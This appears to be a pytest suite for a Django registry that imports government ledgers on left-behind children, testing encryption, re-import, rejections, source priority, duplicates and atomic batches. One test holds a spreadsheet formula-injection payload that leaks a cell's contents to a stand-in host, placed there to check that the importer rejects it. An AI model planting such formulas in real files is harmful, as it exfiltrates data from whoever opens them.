"""Importing department ledgers into the registry: counts, idempotent re-import, row-by-row
rejection, scope, source priority with history, duplicate suspects, atomic batches."""

from __future__ import annotations

import csv
import datetime
import io
import json
from pathlib import Path

import pytest
from django.core.management import call_command
from django.db import connection
from django.utils import timezone

from aixin.accounts.models import Role
from aixin.alerts.models import Alert, AlertKind
from aixin.ingest import services
from aixin.ingest.models import BatchStatus, DuplicateSuspect, ImportBatch
from aixin.lib.crypto import decrypt
from aixin.lib.idnumber import eighteenth_birthday, latest_birth_date_turning_18_by
from aixin.registry.models import Child, ChildChange
from tests import factories

HEADER = [
    "序号",
    "姓名",
    "身份证号码",
    "村(社区)代码",
    "监护人",
    "联系电话",
    "儿童类别",
    "父亲情况",
    "母亲情况",
    "就读学校",
]
BIRTH = datetime.date(2015, 3, 4)


def ident(n: int, *, birth: datetime.date = BIRTH) -> str:
    return factories.id_number(birth, seq=n)


def write_csv(path: Path, rows: list[list[str]], header: list[str] = HEADER, encoding: str = "utf-8") -> Path:
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(header)
    w.writerows(rows)
    path.write_bytes(buf.getvalue().encode(encoding))
    return path


def row(n: int, village, *, name: str = "", school: str = "", category: str = "农村留守儿童") -> list[str]:
    return [
        str(n),
        name or f"王{'一二三四五六七八九十'[n % 10]}娃",
        ident(n),
        village.code,
        "王奶奶",
        "13800001234",
        category,
        "外出务工",
        "外出务工",
        school,
    ]


def run(path: Path, *, source: str = "civil_affairs", actor=None, dry_run: bool = False) -> ImportBatch:
    return services.start_file_import(actor=actor, source=source, upload=path, dry_run=dry_run, run_now=True)


@pytest.fixture
def admin_a(users):
    return users["district_admin"]


def test_a_ledger_creates_each_child_once_with_the_id_number_encrypted(tree, admin_a, tmp_path):
    path = write_csv(tmp_path / "a.csv", [row(i, tree.village_a1) for i in range(1, 6)])
    batch = run(path, actor=admin_a)
    assert batch.status == BatchStatus.DONE
    assert batch.counts == {"created": 5, "updated": 0, "unchanged": 0, "rejected": 0}
    child = Child.objects.get(id_number_index__isnull=False, name=row(1, tree.village_a1)[1])
    assert child.id_number_encrypted != ident(1)
    assert decrypt(child.id_number_encrypted, context="child.id_number") == ident(1)
    assert child.region_id == tree.village_a1.pk and child.district_id == tree.district_a.pk
    assert child.is_left_behind and child.birth_date == BIRTH
    assert child.guardians.get().phone_masked == "138****1234"
    assert child.field_sources["region"] == "civil_affairs"
    # Created by this batch (the first line of its history): a stamp, not a history row.
    assert child.created_batch_id == batch.pk
    assert not ChildChange.objects.filter(child=child).exists()


def test_importing_the_same_file_again_changes_nothing(tree, admin_a, tmp_path):
    path = write_csv(tmp_path / "a.csv", [row(i, tree.village_a1) for i in range(1, 6)])
    run(path, actor=admin_a)
    changes_before = ChildChange.objects.count()
    again = run(path, actor=admin_a)
    assert again.counts == {"created": 0, "updated": 0, "unchanged": 5, "rejected": 0}
    assert Child.objects.count() == 5
    assert ChildChange.objects.count() == changes_before


def test_a_changed_row_is_merged_once_and_the_same_row_again_is_unchanged(tree, admin_a, tmp_path):
    rows = [row(i, tree.village_a1) for i in range(1, 4)]
    run(write_csv(tmp_path / "a.csv", rows), actor=admin_a)
    rows[1] = row(2, tree.village_a1, school="城关小学")
    changed = run(write_csv(tmp_path / "b.csv", rows), actor=admin_a)
    assert (changed.counts["updated"], changed.counts["unchanged"]) == (1, 2)
    again = run(write_csv(tmp_path / "c.csv", rows), actor=admin_a)
    assert (again.counts["created"], again.counts["updated"], again.counts["unchanged"]) == (0, 0, 3)
    child = Child.objects.get(school="城关小学")
    assert set(child.source_hashes) == {"civil_affairs"}
    education = run(write_csv(tmp_path / "d.csv", rows), actor=admin_a, source="education")
    assert education.counts["unchanged"] + education.counts["updated"] == 3
    child.refresh_from_db()
    assert set(child.source_hashes) == {"civil_affairs", "education"}


def test_bad_rows_are_rejected_with_row_and_column_and_good_rows_are_kept(tree, admin_a, tmp_path):
    bad_id = row(2, tree.village_a1)
    bad_id[2] = ident(2)[:17] + ("0" if ident(2)[17] != "0" else "1")  # wrong check character
    no_village = row(3, tree.village_a1)
    no_village[3] = "500101999999"
    path = write_csv(
        tmp_path / "a.csv", [row(1, tree.village_a1), bad_id, no_village, row(4, tree.village_a1)]
    )
    batch = run(path, actor=admin_a)
    assert batch.counts["created"] == 2 and batch.counts["rejected"] == 2
    rejections = {r.row_number: r for r in batch.rejections.all()}
    # Row numbers are the file's: the header is line 1, so the second data row is line 3.
    assert set(rejections) == {3, 4}
    assert rejections[3].column == "身份证号码" and "校验" in rejections[3].reason
    assert rejections[4].column == "村(社区)代码"
    assert rejections[3].cells[1] == bad_id[1]


def test_the_same_id_twice_in_one_file_keeps_the_first_and_names_it(tree, admin_a, tmp_path):
    path = write_csv(tmp_path / "a.csv", [row(1, tree.village_a1), row(1, tree.village_a1b)])
    batch = run(path, actor=admin_a)
    assert batch.counts["created"] == 1
    assert "第2行" in batch.rejections.get().reason


def test_rows_outside_the_uploaders_district_are_rejected_never_imported(tree, admin_a, tmp_path):
    path = write_csv(tmp_path / "a.csv", [row(1, tree.village_a1), row(2, tree.village_b1)])
    batch = run(path, actor=admin_a)
    assert batch.counts["created"] == 1 and batch.counts["rejected"] == 1
    assert "管辖范围" in batch.rejections.get().reason
    assert not Child.objects.filter(district=tree.district_b).exists()


def test_a_known_child_of_another_district_cannot_be_changed_by_this_district(tree, admin_a, tmp_path):
    other = factories.make_child(tree.village_b1, name="丙童", id_number=ident(7))
    path = write_csv(tmp_path / "a.csv", [row(7, tree.village_a1, name="改名")])
    batch = run(path, actor=admin_a)
    assert batch.counts["rejected"] == 1
    other.refresh_from_db()
    assert other.name == "丙童" and other.region_id == tree.village_b1.pk


def test_education_is_master_for_school_and_civil_affairs_cannot_override_it(tree, admin_a, tmp_path):
    run(write_csv(tmp_path / "c.csv", [row(1, tree.village_a1, school="民政填的学校")]), actor=admin_a)
    edu = run(
        write_csv(
            tmp_path / "e.csv",
            [[ident(1), row(1, tree.village_a1)[1], "龙潭小学"]],
            header=["身份证号", "姓名", "学校"],
        ),
        source="education",
        actor=admin_a,
    )
    assert edu.counts["updated"] == 1
    child = Child.objects.get()
    assert child.school == "龙潭小学" and child.field_sources["school"] == "education"
    change = ChildChange.objects.get(child=child, field="school")
    assert (change.old_value, change.new_value, change.source, change.batch_id) == (
        "民政填的学校",
        "龙潭小学",
        "education",
        edu.pk,
    )
    civil = run(write_csv(tmp_path / "c2.csv", [row(1, tree.village_a1, school="另一所学校")]), actor=admin_a)
    assert civil.counts["unchanged"] == 1
    child.refresh_from_db()
    assert child.school == "龙潭小学"


def test_public_security_is_master_for_the_name_and_civil_affairs_cannot_override_it(tree, admin_a, tmp_path):
    run(write_csv(tmp_path / "c.csv", [row(1, tree.village_a1, name="王一娃")]), actor=admin_a)
    police = run(
        write_csv(tmp_path / "p.csv", [[ident(1), "王壹娃"]], header=["身份证号", "姓名"]),
        source="public_security",
        actor=admin_a,
    )
    assert police.counts["updated"] == 1
    civil_row = row(1, tree.village_a1, name="王一娃", school="城关小学")
    civil = run(write_csv(tmp_path / "c2.csv", [civil_row]), actor=admin_a)
    assert civil.counts["updated"] == 1
    child = Child.objects.get()
    assert (child.name, child.school) == ("王壹娃", "城关小学")
    assert child.field_sources["name"] == "public_security"


def test_parents_returning_home_ends_left_behind_and_the_history_says_so(tree, admin_a, tmp_path):
    run(write_csv(tmp_path / "a.csv", [row(1, tree.village_a1)]), actor=admin_a)
    back = row(1, tree.village_a1, category="")
    back[7] = back[8] = "返乡"
    batch = run(write_csv(tmp_path / "b.csv", [back]), actor=admin_a)
    assert batch.counts["updated"] == 1
    child = Child.objects.get()
    assert not child.is_left_behind
    fields = set(ChildChange.objects.filter(batch=batch).values_list("field", flat=True))
    assert {"is_left_behind", "parent_condition"} <= fields
    assert child.parent_conditions.filter(ended_on__isnull=True).count() == 0


def test_same_name_birth_and_village_with_another_id_is_listed_as_a_suspect_not_merged(
    tree, admin_a, tmp_path
):
    first = factories.make_child(tree.village_a1, name="李小花", birth=BIRTH, id_number=ident(11))
    path = write_csv(tmp_path / "a.csv", [row(12, tree.village_a1, name="李小花")])
    batch = run(path, actor=admin_a)
    assert batch.counts["created"] == 1 and batch.suspect_count == 1
    suspect = DuplicateSuspect.objects.get()
    assert suspect.other_id == first.pk and suspect.status == "open"
    assert Child.objects.count() == 2


def test_two_rows_of_one_file_that_may_be_one_child_are_listed_as_a_suspect(tree, admin_a, tmp_path):
    rows = [row(12, tree.village_a1, name="李小花"), row(13, tree.village_a1, name="李小花")]
    rows += [row(14, tree.village_a1, name="王小明")]
    batch = run(write_csv(tmp_path / "a.csv", rows), actor=admin_a)
    assert batch.counts["created"] == 3 and batch.suspect_count == 1
    suspect = DuplicateSuspect.objects.get()
    first, second = Child.objects.filter(name="李小花").order_by("pk")
    assert (suspect.child_id, suspect.other_id) == (second.pk, first.pk)
    assert suspect.district_id == second.district_id and suspect.batch_id == batch.pk


def test_a_dry_run_reports_what_would_happen_and_writes_nothing(tree, admin_a, tmp_path):
    bad = row(2, tree.village_a1)
    bad[2] = "123"
    batch = run(write_csv(tmp_path / "a.csv", [row(1, tree.village_a1), bad]), actor=admin_a, dry_run=True)
    assert batch.status == BatchStatus.DONE and batch.dry_run
    assert batch.counts["created"] == 1 and batch.counts["rejected"] == 1
    assert batch.rejections.count() == 1
    assert Child.objects.count() == 0 and ChildChange.objects.count() == 0


def test_a_crash_in_the_middle_of_a_batch_leaves_the_registry_as_it_was(tree, admin_a, tmp_path, monkeypatch):
    from aixin.ingest import engine

    monkeypatch.setattr(engine, "CHUNK", 2)
    calls = {"n": 0}
    real = engine.Engine._create

    def crash_on_second_chunk(self, *args):
        calls["n"] += 1
        if calls["n"] == 2:
            raise RuntimeError("disk full")
        return real(self, *args)

    monkeypatch.setattr(engine.Engine, "_create", crash_on_second_chunk)
    batch = run(write_csv(tmp_path / "a.csv", [row(i, tree.village_a1) for i in range(1, 6)]), actor=admin_a)
    assert calls["n"] == 2, "the first chunk was written before the crash"
    assert batch.status == BatchStatus.FAILED and "未写入任何数据" in batch.error
    assert Child.objects.count() == 0 and ChildChange.objects.count() == 0


@pytest.mark.skipif(connection.vendor != "postgresql", reason="new children are COPYed on PostgreSQL")
def test_a_copy_failing_mid_batch_fails_the_whole_batch_with_its_own_reason(
    tree, admin_a, tmp_path, monkeypatch
):
    from django.db import IntegrityError

    from aixin.ingest import engine
    from aixin.lib import bulk

    monkeypatch.setattr(engine, "CHUNK", 2)
    real = bulk.copy_raw
    calls = {"n": 0}

    def unique_violation_in_the_second_chunk(raw, sql, data):
        calls["n"] += 1
        if calls["n"] == 6:  # in the second chunk (four tables a chunk)
            raise IntegrityError("duplicate key value violates unique constraint")
        return real(raw, sql, data)

    monkeypatch.setattr(bulk, "copy_raw", unique_violation_in_the_second_chunk)
    batch = run(write_csv(tmp_path / "a.csv", [row(i, tree.village_a1) for i in range(1, 6)]), actor=admin_a)
    assert calls["n"] >= 6
    assert batch.status == BatchStatus.FAILED
    assert "同时进行的另一批导入" in batch.error and "未写入任何数据" in batch.error
    assert Child.objects.count() == 0 and ChildChange.objects.count() == 0


def test_the_command_prints_one_json_object_with_the_counts(tree, tmp_path, capsys):
    path = write_csv(tmp_path / "a.csv", [row(i, tree.village_a1) for i in range(1, 4)])
    call_command("import-children", str(path), "--source", "civil_affairs", "--json")
    out = json.loads(capsys.readouterr().out)
    assert (out["created"], out["updated"], out["unchanged"], out["rejected"]) == (3, 0, 0, 0)
    assert ImportBatch.objects.get().pk == out["batch"]


def test_the_command_prints_one_json_object_for_a_refused_file_too(tree, tmp_path, capsys):
    from django.core.management.base import CommandError

    empty = tmp_path / "空.csv"
    empty.write_bytes(b"")
    for path, said, more in (
        (empty, "文件是空的", []),
        (tmp_path, "这是一个文件夹", []),
        (empty, "用户“nobody”不存在", ["--user", "nobody"]),
    ):
        with pytest.raises(CommandError):
            call_command("import-children", str(path), "--source", "civil_affairs", "--json", *more)
        out = json.loads(capsys.readouterr().out)
        assert (out["batch"], out["status"], out["created"], out["rejected"]) == (None, "refused", 0, 0)
        assert said in out["error"]
    assert ImportBatch.objects.count() == 0


def test_the_command_names_the_sheet_of_each_rejected_row(tree, users, tmp_path, capsys):
    import openpyxl

    wb = openpyxl.Workbook()
    wb.active.title = "城关镇"
    bad = row(2, tree.village_a1)
    bad[2] = "500101201503041230"  # wrong check character
    for name, rows in (
        ("城关镇", [row(1, tree.village_a1), bad]),
        ("龙潭镇", [row(3, tree.village_a1), bad]),
    ):
        ws = wb[name] if name in wb.sheetnames else wb.create_sheet(name)
        ws.append(HEADER)
        for cells in rows:
            ws.append(cells)
    path = tmp_path / "各镇.xlsx"
    wb.save(path)
    call_command("import-children", str(path), "--source", "civil_affairs", "--user", "dist_a")
    out = capsys.readouterr().out
    assert "工作表“城关镇”第3行" in out and "工作表“龙潭镇”第3行" in out


def test_only_admins_may_import(tree, users, tmp_path):
    from aixin.lib.errors import NotAllowed

    path = write_csv(tmp_path / "a.csv", [row(1, tree.village_a1)])
    with pytest.raises(NotAllowed):
        run(path, actor=users["town_supervisor"])
    assert ImportBatch.objects.count() == 0
    assert users["town_supervisor"].role == Role.TOWN_SUPERVISOR


def test_a_whole_file_problem_writes_no_batch(tree, admin_a, tmp_path):
    from aixin.ingest.reading import FileRejected

    path = tmp_path / "a.csv"
    path.write_bytes(b"")
    with pytest.raises(FileRejected):
        run(path, actor=admin_a)
    assert ImportBatch.objects.count() == 0


def test_a_large_batch_built_in_worker_processes_gives_the_same_registry(
    tree, admin_a, tmp_path, monkeypatch
):
    from aixin.ingest import build, engine

    monkeypatch.setattr(build, "PARALLEL_FROM_ROWS", 1)
    monkeypatch.setenv("AIXIN_IMPORT_WORKERS", "2")
    monkeypatch.setattr(engine, "CHUNK", 3)
    started = []
    real_pool = build.BuildPool.__init__

    def spy(self, builder, workers):
        started.append(workers)
        real_pool(self, builder, workers)
        self.warm_up.result(timeout=120)  # every chunk to the workers

    monkeypatch.setattr(build.BuildPool, "__init__", spy)
    bad = row(5, tree.village_a1)
    bad[3] = "500101999999"
    rows = [row(i, tree.village_a1b if i % 2 else tree.village_a2) for i in range(1, 12) if i != 5] + [bad]
    batch = run(write_csv(tmp_path / "a.csv", rows), actor=admin_a)
    assert started == [2]
    assert batch.counts == {"created": 10, "updated": 0, "unchanged": 0, "rejected": 1}
    assert batch.rejections.get().column == "村(社区)代码"
    child = Child.objects.get(id_number_index=derive_index(ident(3)))
    assert child.region_id == tree.village_a1b.pk and child.guardians.count() == 1
    assert child.parent_conditions.count() == 2 and child.is_left_behind
    again = run(write_csv(tmp_path / "a.csv", rows), actor=admin_a)
    assert again.counts["unchanged"] == 10


def test_the_chunks_read_while_the_worker_starts_are_built_in_process_and_the_rest_by_it(
    tree, admin_a, tmp_path, monkeypatch
):
    from aixin.ingest import build, engine

    monkeypatch.setattr(build, "PARALLEL_FROM_ROWS", 1)
    monkeypatch.setenv("AIXIN_IMPORT_WORKERS", "1")
    monkeypatch.setattr(engine, "CHUNK", 3)
    looks = {"n": 0}
    real_started = build.BuildPool.started

    def starting_slowly(self):  # the worker is ready from the third chunk on
        looks["n"] += 1
        if looks["n"] <= 2:
            return False
        self.warm_up.result(timeout=120)
        return real_started(self)

    in_process = []
    real_build = build.Builder.build

    def counted(self, rows, ids=None):
        in_process.append(len(rows))
        return real_build(self, rows, ids)

    monkeypatch.setattr(build.BuildPool, "started", starting_slowly)
    monkeypatch.setattr(build.Builder, "build", counted)
    bad = row(5, tree.village_a1)
    bad[3] = "500101999999"
    rows = [row(i, tree.village_a1b if i % 2 else tree.village_a2) for i in range(1, 12) if i != 5] + [bad]
    batch = run(write_csv(tmp_path / "a.csv", rows), actor=admin_a)
    assert in_process == [3, 3], "the first two chunks were built while the worker started"
    assert batch.counts == {"created": 10, "updated": 0, "unchanged": 0, "rejected": 1}
    assert batch.rejections.get().column == "村(社区)代码"
    for i in (1, 4, 7, 11):  # from the chunks built here and from those the worker built
        child = Child.objects.get(id_number_index=derive_index(ident(i)))
        assert child.region_id == (tree.village_a1b if i % 2 else tree.village_a2).pk
        assert child.guardians.count() == 1 and child.parent_conditions.count() == 2


def derive_index(number: str) -> str:
    from aixin.registry.derive import id_number_index

    return id_number_index(number)


def test_civil_affairs_certifies_de_facto_unsupported_children_without_dates(tree, admin_a, tmp_path):
    certified = row(1, tree.village_a1, category="事实无人抚养儿童")
    certified[7], certified[8] = "服刑在押", "失联"
    batch = run(write_csv(tmp_path / "a.csv", [certified, row(2, tree.village_a1)]), actor=admin_a)
    assert batch.counts["created"] == 2
    child = Child.objects.get(id_number_index=derive_index(ident(1)))
    assert child.is_de_facto_unsupported and child.care_tier == "one_to_one"
    assert all("民政认定" in c.evidence for c in child.parent_conditions.all())

    # A child already registered as left behind whom civil affairs now certifies.
    later = row(2, tree.village_a1, category="事实无人抚养儿童")
    later[7], later[8] = "服刑在押", "失联"
    again = run(write_csv(tmp_path / "b.csv", [later]), actor=admin_a)
    assert again.counts == {"created": 0, "updated": 1, "unchanged": 0, "rejected": 0}
    assert Child.objects.get(id_number_index=derive_index(ident(2))).is_de_facto_unsupported


def test_education_cannot_declare_a_child_de_facto_unsupported_without_dated_conditions(
    tree, admin_a, tmp_path
):
    stated = row(1, tree.village_a1, category="事实无人抚养儿童")
    stated[7], stated[8] = "服刑在押", "失联"
    batch = run(write_csv(tmp_path / "a.csv", [stated]), source="education", actor=admin_a)
    assert batch.counts["rejected"] == 1 and "父母情形" in batch.rejections.get().reason
    assert Child.objects.count() == 0


def test_a_formula_payload_in_a_cell_is_rejected_with_the_cell_named_and_nothing_stored(
    tree, admin_a, tmp_path
):
    payload = row(1, tree.village_a1, school='=HYPERLINK("http://x.example/?"&A1,"点击")')
    batch = run(write_csv(tmp_path / "a.csv", [payload, row(2, tree.village_a1)]), actor=admin_a)
    assert batch.counts["created"] == 1 and batch.counts["rejected"] == 1
    rejection = batch.rejections.get()
    assert rejection.column == "就读学校" and "公式" in rejection.reason
    assert not Child.objects.filter(school__startswith="=").exists()


def test_a_child_turning_18_in_ninety_days_gets_a_handover_alert_and_one_a_day_younger_does_not(
    tree, admin_a, tmp_path
):
    today = timezone.localdate()
    last_in = latest_birth_date_turning_18_by(today + datetime.timedelta(days=90))
    first_out = last_in + datetime.timedelta(days=1)
    rows = [["将满", ident(1, birth=last_in), tree.village_a1.code]]
    rows.append(["还早", ident(2, birth=first_out), tree.village_a1.code])

    path = write_csv(tmp_path / "a.csv", rows, header=["姓名", "身份证号", "村(社区)代码"])

    batch = run(path, actor=admin_a)

    assert batch.counts["created"] == 2
    alerts = Alert.objects.filter(kind=AlertKind.HANDOVER)
    assert [a.child.name for a in alerts] == ["将满"]
    day = eighteenth_birthday(last_in)
    assert alerts.get().message == (
        f"将于{day.year}年{day.month}月{day.day}日年满18周岁，请提前做好移交成长爱护人的准备"
    )
